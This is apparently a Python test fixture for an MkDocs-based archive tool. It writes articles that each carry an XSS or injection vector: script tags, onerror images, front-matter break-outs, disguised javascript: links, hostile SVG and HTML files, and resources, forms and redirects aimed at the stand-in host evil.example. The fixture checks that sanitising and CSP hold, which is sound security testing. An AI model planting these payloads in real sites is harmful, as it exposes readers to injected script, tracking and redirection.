"""An archive in which every article is an attack. ``P(1)`` stands for whatever an attacker would run."""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from fumikura.model.annotations import render_annotation
from fumikura.model.front_matter import render
from fumikura.model.shapes import AnnotationHeader
from shared_data import ROOT, shared

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = "<script>P(1)</script>"
PICTURE = '"><img src=x onerror=P(1)>'
BREAK_OUT = f"</title></a>{SCRIPT}{PICTURE}"
ELSEWHERE = "https://evil.example"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="P(1)">{SCRIPT}<rect/></svg>'

OTHERS = shared("security/markdown_vectors.json")
"""Third-party vectors, Markdown by name; the file need not be there."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack."""

    name: str
    body: str = "Nothing to see here."
    header: dict[str, Any] = field(default_factory=dict)
    """Front matter beside the title."""
    annotations: tuple[tuple[dict[str, Any], str], ...] = ()
    """Header and comment of each."""
    files: dict[str, str] = field(default_factory=dict)
    """What else lies in the article's folder."""
    needs_sanitiser: bool = False
    """Whether a Content-Security-Policy cannot stop it: it has no word on where a page may send its reader, nor on
    what an element may look like."""

    @property
    def address(self) -> str:
        """Of its article."""
        return f"articles/{re.sub('[^a-z0-9]+', '-', self.name.lower())}/"


QUOTED = f"literally {SCRIPT} and no more"
_NOTE = {"by": PICTURE, "tags": [SCRIPT, PICTURE]}
_COMMENT = f"{SCRIPT} <img src=x onerror=P(1)> [c](javascript:P(1)) <b onmouseover=P(1)>c</b>\n\nc\n{{: onclick=P(1) }}"

OWN = (
    Vector("own script", SCRIPT),
    Vector("own picture that fails", "<img src=x onerror=P(1)>"),
    Vector("own attribute", '[c](#){: onclick="P(1)" onfocus="P(1)" tabindex=0 }'),
    Vector("own title of a script", header={"title": SCRIPT}),
    Vector("own title that breaks out", header={"title": BREAK_OUT}),
    Vector("own description that breaks out", header={"description": f'">{BREAK_OUT}'}),
    Vector("own author that breaks out", header={"author": [BREAK_OUT, f"' onclick='P(1)' x='{PICTURE}"]}),
    Vector("own site that breaks out", header={"site": BREAK_OUT}),
    Vector("own tags that break out", header={"tags": [BREAK_OUT, SCRIPT, "javascript:P(1)", "../../.."]}),
    Vector(
        "own provenance that breaks out",
        header={"license": BREAK_OUT, "original": BREAK_OUT, "converter": BREAK_OUT, "modified": BREAK_OUT},
    ),
    Vector("own source that is a script", header={"source": f"{ELSEWHERE}/?{PICTURE}", "cover": "javascript:P(1)"}),
    Vector("own cover that breaks out", header={"cover": 'x.png" onerror="P(1)'}),
    Vector("own cover from elsewhere", header={"cover": "https:/evil.example/cover.gif"}),
    Vector("own cover from elsewhere without a scheme", header={"cover": "/\\evil.example/cover.gif"}),
    Vector(
        "own annotation",
        f"Here stands literally `{SCRIPT}` and no more, twice.",
        annotations=(
            ({"quote": QUOTED, **_NOTE}, _COMMENT),
            ({"reply_to": "20260101T000000Z-aaaaaa", **_NOTE}, _COMMENT),
            ({"quote": f"gone {SCRIPT}", **_NOTE}, _COMMENT),
            ({"quote": "twice", "by": "x' onmouseover='P(1)"}, "```{.py onclick=P(1)}\nx\n```"),
        ),
    ),
    Vector("own headings of tags", "\n\n".join(f"## {n} <img src=x onerror=P(1)>\n\ntext" for n in "abcd")),
    Vector(
        "own headings that quote tags",
        "\n\n".join(f"## {n} &lt;img src=x onerror=P(1)&gt; `{SCRIPT}`\n\ntext" for n in "abcd"),
    ),
    Vector("own heading with an id", "\n\n".join(f"## h {{: id='{n}\" onclick=P(1) x=' }}\n\ntext" for n in "abcd")),
    Vector("own picture that runs", "![a](evil.svg)\n\n[c](evil.svg)", files={"evil.svg": SVG}),
    Vector(
        "own files that run",
        "[c](evil.html) [c](evil.xhtml) [c](evil.xml) <script src=evil.js></script>",
        files={
            "evil.html": SCRIPT,
            "evil.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>',
            "evil.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>P(1)</h:script></x>',
            "evil.js": "P(1)",
        },
    ),
    Vector(
        "own hostile file names",
        '![a](<"onerror="P(1)" x=".png>) ![a](<%22%20onerror=P(1).png>) [c](<javascript:P(1).png>)',
        files={'"onerror="P(1)" x=".png': "x", "<img src=x onerror=P(1)>.png": "x", "javascript:P(1).png": "x"},
    ),
    Vector(
        "own imitated settings of the theme",
        '<script id="__config" type="application/json">{"base": "https://evil.example", "features": ["navigation'
        '.instant", "content.tooltips"], "search": "https://evil.example/w.js", "translations": {}, "tags": {}}'
        f"</script>\n\n<a id=__config>{ELSEWHERE}</a>",
    ),
    Vector(
        "own pictures from elsewhere",
        f'<img src="{ELSEWHERE}/1.gif"> <img src=x srcset="{ELSEWHERE}/2.gif 1x"> <img src="//evil.example/3.gif">\n'
        f'<picture><source srcset="{ELSEWHERE}/4.gif"><img src="\\\\evil.example/5.gif"></picture>\n'
        f'<video poster="{ELSEWHERE}/6.gif" src="{ELSEWHERE}/7.mp4"></video> <input type=image src={ELSEWHERE}/8.gif>\n'
        f'<svg><image href="{ELSEWHERE}/9.gif" /><use href="{ELSEWHERE}/10.svg#x" /></svg>\n\n'
        f'<table background="{ELSEWHERE}/11.gif"><tr><td>x</td></tr></table>\n\n'
        f'<p style="background: url({ELSEWHERE}/12.gif)">x</p>',
    ),
    Vector(
        "own resources from elsewhere",
        f"<link rel=stylesheet href={ELSEWHERE}/a.css> <link rel=prefetch href={ELSEWHERE}/b>\n\n"
        f"<script src={ELSEWHERE}/c.js></script> <iframe src={ELSEWHERE}/d></iframe>\n\n"
        f"<object data={ELSEWHERE}/e></object> <embed src={ELSEWHERE}/f> <audio src={ELSEWHERE}/g></audio>",
    ),
    Vector("own link that reports a click", f'<a href="#x" ping="{ELSEWHERE}/ping">c</a>'),
    Vector("own form to elsewhere", f"<form action={ELSEWHERE}/><input name=a value=1><button>c</button></form>"),
    Vector(
        "own links in disguise",
        '<a href="&#106;avascript:P(1)">c</a> <a href="java&#9;script:P(1)">c</a> <a href=" javascript:P(1)">c</a>'
        ' <a href="\x01javascript:P(1)">c</a> <svg><a xlink:href="javascript:P(1)"><text y=9>c</text></a></svg>',
    ),
    Vector("own titles of boxes", f'!!! note "{SCRIPT}<img src=x onerror=P(1)>"\n    x\n\n??? note "{SCRIPT}"\n    x'),
    Vector("own title of code", '``` {.py title="<img src=x onerror=P(1)>" onclick="P(1)"}\nx\n```'),
    Vector(
        "own tags in tags",
        "<div markdown=1><scr<script>ipt>P(1)</scr</script>ipt><p markdown=1 onclick=P(1)>c</p></div>",
    ),
    Vector("own title that Material shows", '[c](# "<img src=x onerror=P(1)>"){: title="<img src=x onerror=P(1)>" }'),
    Vector(
        "own page over the page",
        '<div class="md-overlay md-search__overlay" style="position:fixed;inset:0">x</div> <label for=__drawer>c</label>'
        '\n\n<div class="md-dialog md-dialog--active">x</div> <div data-fumikura class="fk-note">x</div>',
        needs_sanitiser=True,
    ),
    Vector(
        "own page that leads away",
        f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/away">',
        needs_sanitiser=True,
    ),
)


def vectors() -> tuple[Vector, ...]:
    """Our own, and those of others where their file is there."""
    others = json.loads(OTHERS.read_text("utf-8")) if OTHERS.is_file() else {}
    return (*OWN, *(Vector(name, body) for name, body in others.items()))


def write_archive(folder: Path) -> None:
    """One article for each vector, under this repository's own settings."""
    shutil.copy(ROOT / "mkdocs.yml", folder)
    docs = folder / "docs"
    for page in ("index", "guide/index"):
        path = docs / f"{page}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("# Vectors\n", "utf-8")
    for vector in vectors():
        article = docs / vector.address
        (article / "annotations").mkdir(parents=True)
        header = {"title": f"Vector {vector.name}", "lang": "en", **vector.header}
        (article / "index.md").write_text(render(header) + vector.body + "\n", "utf-8")
        for name, content in vector.files.items():
            (article / name).write_text(content, "utf-8")
        for number, (values, comment) in enumerate(vector.annotations):
            name = f"20260101T00000{number}Z-{'abcdefgh'[number] * 6}.md"
            text = render_annotation(AnnotationHeader.model_validate(values), comment)
            (article / "annotations" / name).write_text(text, "utf-8")
    (docs / "notes").mkdir()
    headings = "\n\n".join(f"## {n} <img src=x onerror=P(1)> &lt;img src=x onerror=P(1)&gt;\n\ntext" for n in "abcd")
    (docs / "notes" / "hostile.md").write_text(render({"title": BREAK_OUT}) + headings, "utf-8")
